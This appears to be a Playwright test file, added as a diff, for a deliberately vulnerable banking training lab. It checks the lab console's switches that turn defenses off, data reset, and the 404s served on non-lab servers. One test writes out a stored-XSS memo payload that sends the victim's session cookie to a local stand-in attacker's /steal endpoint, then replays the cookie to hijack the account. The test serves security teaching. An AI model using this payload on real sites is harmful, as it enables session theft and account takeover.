@@ -1,0 +1,228 @@
+// Threat: the lab's own tool turned against a real bank. A console or a switch reachable on a
+// server that is not a lab would let anyone turn its defenses off; a switch that reached only
+// some browsers, or a stale banner, would make a class watch the wrong thing. Defense: lab mode
+// is LAB_ALLOW=1 (`npm run lab`); elsewhere /lab, its inbox and its server actions answer 404
+// and change nothing (proxy.ts, lib/lab/guard.ts), and no switch is even read. In a lab, a
+// switch is written to the database and to the process-wide copy flawOn() reads, so the next
+// request of every browser meets it, the banner included. The attacker's site is another site
+// (127.0.0.1); its captures reach the console's inbox through a same-origin route.
+import { request as playwrightRequest, type Browser, type BrowserContext, type Page } from "@playwright/test";
+import { startAttackerSite, type AttackerSite } from "../scripts/attacker-site";
+import { expectAccessible } from "./support/accessibility";
+import { freePort, startOwnServer, type DirectServer } from "./support/direct-server";
+import { expect, fillTransfer, SESSION_COOKIE, sessionCookieValue, signIn, test } from "./support/fixtures";
+import { serverUrl } from "./support/servers";
+
+// Seeded into every fresh lab database (prisma/seed.ts).
+const ALICE = { email: "alice@vaultline.test", password: "alice-demo-pass-1", name: "Alice Archer", accountNumber: "VL-1001-0001" };
+const MALLORY = { email: "mallory@vaultline.test", password: "mallory-demo-pass-1" };
+const BOB = { email: "bob@vaultline.test", password: "bob-demo-pass-1", accountNumber: "VL-1002-0001", seededCents: 436_501 };
+
+function banner(page: Page) {
+  return page.getByRole("note", { name: "Lab mode" });
+}
+
+function flawSwitch(trainer: Page, name: string) {
+  return trainer.getByRole("switch", { name, exact: true });
+}
+
+/** Clicks a flaw's switch in the console and waits for it to show the new state. */
+async function toggle(trainer: Page, name: string, on: boolean): Promise<void> {
+  await expect(flawSwitch(trainer, name)).toHaveAttribute("aria-checked", String(!on));
+  await flawSwitch(trainer, name).click();
+  await expect(flawSwitch(trainer, name)).toHaveAttribute("aria-checked", String(on));
+}
+
+async function scriptCanReadSession(page: Page): Promise<boolean> {
+  const token = await sessionCookieValue(page);
+  return !!token && (await page.evaluate(() => document.cookie)).includes(token);
+}
+
+test.describe("the lab console on a lab server", () => {
+  // One lab server and attacker's site for the group; the tests run in order on its switches.
+  // Each drives two or three browsers through real sign-ins (bcrypt at its real cost).
+  test.describe.configure({ mode: "default", timeout: 90_000 });
+  let server: DirectServer;
+  let attacker: AttackerSite;
+  let contexts: BrowserContext[] = [];
+
+  test.beforeAll(async ({}, testInfo) => {
+    testInfo.setTimeout(120_000);
+    const port = await freePort();
+    attacker = await startAttackerSite({ port: 0, bankUrl: `http://localhost:${port}` });
+    server = await startOwnServer({ name: "lab", database: "sqlite", port, flaws: "", lab: true, env: { LAB_ATTACKER_URL: attacker.url } });
+  });
+  test.afterAll(async () => {
+    await server?.stop();
+    await attacker?.close();
+  });
+  test.afterEach(async ({ browser }) => {
+    const trainer = await openConsole(browser);
+    await trainer.getByRole("button", { name: "Restore every defense" }).click();
+    await expect(trainer.getByText(/^0 of \d+ defenses switched off/)).toBeVisible();
+    await Promise.all(contexts.map((c) => c.close()));
+    contexts = [];
+  });
+
+  /** A browser of its own (the trainer's, the victim's, the attacker's), on the lab server. */
+  async function browserWindow(browser: Browser): Promise<Page> {
+    const context = await browser.newContext({ baseURL: server.baseURL });
+    contexts.push(context);
+    return context.newPage();
+  }
+
+  async function openConsole(browser: Browser): Promise<Page> {
+    const trainer = await browserWindow(browser);
+    await trainer.goto("/lab");
+    await expect(trainer.getByRole("heading", { name: "Lab console" })).toBeVisible();
+    return trainer;
+  }
+
+  test("a switch reaches another browser at once: its banner, and a session cookie script can read", async ({ browser }) => {
+    const trainer = await openConsole(browser);
+    const victim = await browserWindow(browser);
+    await signIn(victim, BOB);
+    await expect(banner(victim)).toBeHidden();
+    expect(await scriptCanReadSession(victim)).toBe(false);
+
+    await toggle(trainer, "readable-cookie", true);
+    expect(await server.db.labFlaw.findUnique({ where: { name: "readable-cookie" } })).toMatchObject({ enabled: true });
+    await victim.reload();
+    await expect(banner(victim)).toContainText("readable-cookie");
+    // HttpOnly is decided when a cookie is issued: the next sign-in's cookie is readable.
+    await signIn(victim, BOB);
+    expect(await scriptCanReadSession(victim)).toBe(true);
+
+    await toggle(trainer, "readable-cookie", false);
+    await victim.reload();
+    await expect(banner(victim)).toBeHidden();
+    await signIn(victim, BOB);
+    expect(await scriptCanReadSession(victim)).toBe(false);
+  });
+
+  test("a switch changes what the proxy sends too: Cache-Control follows no-cache-control", async ({ browser }) => {
+    const trainer = await openConsole(browser);
+    const victim = await browserWindow(browser);
+    // Asked afresh each time: with the flaw on, the browser would answer from its cache.
+    const cacheControl = async () => (await victim.context().request.get("/signin")).headers()["cache-control"];
+    expect(await cacheControl()).toBe("no-store");
+    await toggle(trainer, "no-cache-control", true);
+    expect(await cacheControl()).toBe("private, max-age=600");
+    await toggle(trainer, "no-cache-control", false);
+    expect(await cacheControl()).toBe("no-store");
+  });
+
+  test("the XSS demo: a memo's payload sends the victim's cookie to the attacker's inbox, and the attacker uses it", async ({ browser }) => {
+    const trainer = await openConsole(browser);
+    // All three layers down, as the demo takes them: escaping, the CSP, HttpOnly.
+    for (const flaw of ["stored-xss", "no-csp", "readable-cookie"]) await toggle(trainer, flaw, true);
+
+    // Mallory pays Alice a dollar; the memo is the payload (an <img>'s handler runs wherever the
+    // markup lands, a <script> only in a page's first HTML).
+    const mallory = await browserWindow(browser);
+    await signIn(mallory, MALLORY);
+    const payload = `<img src=x onerror="new Image().src='${attacker.url}/steal?c='+encodeURIComponent(document.cookie)">`;
+    await fillTransfer(mallory, { accountNumber: ALICE.accountNumber }, "1.00", payload);
+    await mallory.getByRole("button", { name: "Send transfer" }).click();
+    await expect(mallory).toHaveURL(/\/transfers\/\w+/);
+
+    const victim = await browserWindow(browser);
+    await signIn(victim, ALICE);
+    await victim.getByRole("link", { name: /Checking/ }).click();
+
+    // (Mallory's own receipt ran the memo too: her own cookie is in the inbox first.)
+    const stolen = (await sessionCookieValue(victim))!;
+    await expect(trainer.getByRole("list", { name: "Captures" })).toContainText(`${SESSION_COOKIE}=${stolen}`);
+
+    await mallory.context().addCookies([{ name: SESSION_COOKIE, value: stolen, url: server.baseURL }]);
+    await mallory.goto("/dashboard");
+    await expect(mallory.getByRole("heading", { name: `Welcome, ${ALICE.name}` })).toBeVisible();
+  });
+
+  test("time travel: every session idle past the high tier, so the transfer page signs out", async ({ browser }) => {
+    const trainer = await openConsole(browser);
+    const victim = await browserWindow(browser);
+    await signIn(victim, BOB);
+    await trainer.getByRole("button", { name: /Every session idle past the high tier/ }).click();
+    await expect(trainer.getByRole("status")).toContainText("idle past the high tier");
+    await victim.goto("/transfers");
+    await expect(victim).toHaveURL(/\/signin\?reason=idle/);
+  });
+
+  test("reset restores the demo data, ends every session and empties the inbox", async ({ browser }) => {
+    const trainer = await openConsole(browser);
+    const victim = await browserWindow(browser);
+    await signIn(victim, BOB);
+    await fillTransfer(victim, { accountNumber: "VL-1001-0001" }, "100.00");
+    await victim.getByRole("button", { name: "Send transfer" }).click();
+    await expect(victim).toHaveURL(/\/transfers\/\w+/);
+    const bob = () => server.db.account.findUniqueOrThrow({ where: { number: BOB.accountNumber } });
+    expect((await bob()).balanceCents).toBe(BOB.seededCents - 10_000);
+    await fetch(`${attacker.url}/steal?c=before-reset`);
+    await expect(trainer.getByRole("list", { name: "Captures" })).toContainText("before-reset");
+
+    await trainer.getByRole("button", { name: "Reset demo data" }).click();
+    // The reset hashes the four demo passwords again, at bcrypt's real cost.
+    await expect(trainer.getByRole("status")).toHaveText("Demo data restored: every session ended, the inbox emptied.", { timeout: 20_000 });
+    expect((await bob()).balanceCents).toBe(BOB.seededCents);
+    expect(await server.db.transfer.count()).toBe(0);
+    expect(await server.db.session.count()).toBe(0);
+    await expect(trainer.getByRole("list", { name: "Captures" })).toHaveText("Nothing captured yet.");
+    await victim.goto("/dashboard");
+    await expect(victim).toHaveURL(/\/signin/);
+  });
+
+  test("every flaw has its seed, demo, expected result and the code of its defense", async ({ browser }) => {
+    const trainer = await openConsole(browser);
+    const card = trainer.getByRole("article", { name: "readable-cookie", exact: true });
+    await expect(card.getByRole("blockquote")).toContainText("HttpOnly flag");
+    await card.getByText("View source").click();
+    await expect(card.getByText(/lib\/session\/cookies\.ts:\d+/)).toBeVisible();
+    await expect(card.locator(".source .marker")).toContainText("// LAB FLAW readable-cookie");
+    await card.getByText("Demo", { exact: true }).click();
+    await expect(card.getByRole("listitem").first()).toContainText("sign in as alice@vaultline.test");
+    await expectAccessible(trainer, "lab console");
+  });
+
+  test("a forged switch on a server that is not a lab changes nothing", async ({ browser, page, db, user }) => {
+    test.skip(!!process.env.MUTATE_FLAWS, "MUTATE_FLAWS makes the secure server a lab");
+    // A real switch, as the console's page sends it (a fetch naming the action), captured on a
+    // lab: the same build runs everywhere, so the same request means the same action anywhere.
+    const trainer = await openConsole(browser);
+    const sent = trainer.waitForRequest((r) => r.method() === "POST" && !!r.headers()["next-action"]);
+    await toggle(trainer, "readable-cookie", true);
+    const real = await sent;
+    // The same action as a plain form posts it (no JavaScript): the field naming it is in the page.
+    const form = trainer.getByRole("article", { name: "fixation", exact: true }).locator("form");
+    const actionField = (await form.locator("input[name^='$ACTION_ID_']").getAttribute("name"))!;
+    const formPost = { [actionField]: "", flaw: "fixation", enabled: "on" };
+
+    const secure = await playwrightRequest.newContext({ baseURL: serverUrl("secure"), extraHTTPHeaders: { Origin: serverUrl("secure") } });
+    try {
+      const replayed = await secure.post("/lab", {
+        headers: { "Next-Action": real.headers()["next-action"]!, "Content-Type": real.headers()["content-type"]! },
+        data: real.postDataBuffer()!,
+      });
+      expect(replayed.status()).toBe(404);
+      expect((await secure.post("/lab", { multipart: formPost })).status()).toBe(404);
+    } finally {
+      await secure.dispose();
+    }
+    expect(await db.labFlaw.count(), "nothing was written").toBe(0);
+    await signIn(page, user);
+    expect(await scriptCanReadSession(page), "the cookie is still HttpOnly").toBe(false);
+
+    // The form post is well-formed: on the lab it does switch.
+    const lab = await playwrightRequest.newContext({ baseURL: server.baseURL, extraHTTPHeaders: { Origin: server.baseURL } });
+    await lab.post("/lab", { multipart: formPost });
+    await lab.dispose();
+    expect(await server.db.labFlaw.findUnique({ where: { name: "fixation" } })).toMatchObject({ enabled: true });
+  });
+});
+
+test("the lab console, its inbox and its actions do not exist on a server that is not a lab", async ({ request }) => {
+  test.skip(!!process.env.MUTATE_FLAWS, "MUTATE_FLAWS makes the secure server a lab");
+  for (const path of ["/lab", "/lab/inbox"]) {
+    expect((await request.get(path)).status(), path).toBe(404);
+  }
+});
